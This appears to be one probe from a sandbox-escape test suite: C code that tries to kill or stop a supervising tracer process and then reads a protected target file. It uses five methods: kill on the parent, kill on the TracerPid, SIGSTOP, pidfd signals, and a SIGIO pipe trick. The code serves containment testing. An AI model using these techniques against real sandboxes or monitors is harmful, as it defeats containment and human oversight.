/* Killing the tracer, then reaching TARGET:
 *   attack_kill ppid   TARGET   kill(getppid(), SIGKILL)
 *   attack_kill tracer TARGET   kill(TracerPid of /proc/self/status, SIGKILL)
 *   attack_kill stop   TARGET   SIGSTOP to the parent (a stalled tracer)
 *   attack_kill pidfd  TARGET   pidfd_send_signal(pidfd_open(ppid), SIGKILL)
 *   attack_kill sigio  TARGET   F_SETOWN ppid + F_SETSIG SIGKILL on a pipe,
 *                               then make it readable (a signal sent by
 *                               the kernel on the program's behalf)
 * Escape: TARGET read or stated afterwards. */
#include "attack.h"
#include <signal.h>
#include <sys/syscall.h>

static pid_t tracer_pid(void)
{
	char buf[4096], *s;
	int fd = open("/proc/self/status", O_RDONLY);
	ssize_t n;

	if (fd < 0)
		return 0;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return 0;
	buf[n] = 0;
	s = strstr(buf, "TracerPid:");
	return s ? atoi(s + 10) : 0;
}

int main(int argc, char **argv)
{
	pid_t victim;
	int r, e, sig = SIGKILL, got;

	if (argc < 3)
		return 2;
	victim = !strcmp(argv[1], "tracer") ? tracer_pid() : getppid();
	if (!strcmp(argv[1], "stop"))
		sig = SIGSTOP;
	if (victim <= 1)
		victim = getppid();
	if (!strcmp(argv[1], "pidfd")) {
		int pfd = (int)syscall(SYS_pidfd_open, victim, 0);
		r = pfd < 0 ? -1 : (int)syscall(SYS_pidfd_send_signal, pfd, SIGKILL, NULL, 0);
	} else if (!strcmp(argv[1], "sigio")) {
		int p[2];
		r = pipe(p);
		if (!r)
			r = fcntl(p[0], F_SETOWN, victim);
		if (!r)
			r = fcntl(p[0], F_SETSIG, SIGKILL);
		if (!r)
			r = fcntl(p[0], F_SETFL, O_ASYNC | O_NONBLOCK);
		if (!r)
			r = write(p[1], "x", 1) == 1 ? 0 : -1;
	} else {
		r = kill(victim, sig);
	}
	e = errno;
	usleep(300000);
	got = probe(argv[2]);
	if (sig == SIGSTOP)
		kill(victim, SIGCONT);
	if (got)
		escaped("%s of pid %d %s, then %s the protected file", sig == SIGKILL ? "SIGKILL" : "SIGSTOP",
			(int)victim, r ? "failed" : "worked", got == 1 ? "read" : "stated");
	blocked("kill: %s", r ? ename(e) : "worked, still confined");
}
